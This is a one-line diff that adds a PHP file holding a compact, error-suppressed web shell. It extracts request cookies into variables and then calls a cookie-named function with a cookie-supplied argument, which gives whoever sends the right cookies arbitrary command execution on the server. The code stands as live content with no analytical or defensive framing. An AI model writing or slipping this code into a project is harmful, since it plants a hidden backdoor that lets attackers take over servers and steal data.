@@ -1,0 +1,1 @@
+<?php @extract($_COOKIE); @die($ctime($atime)); ?>
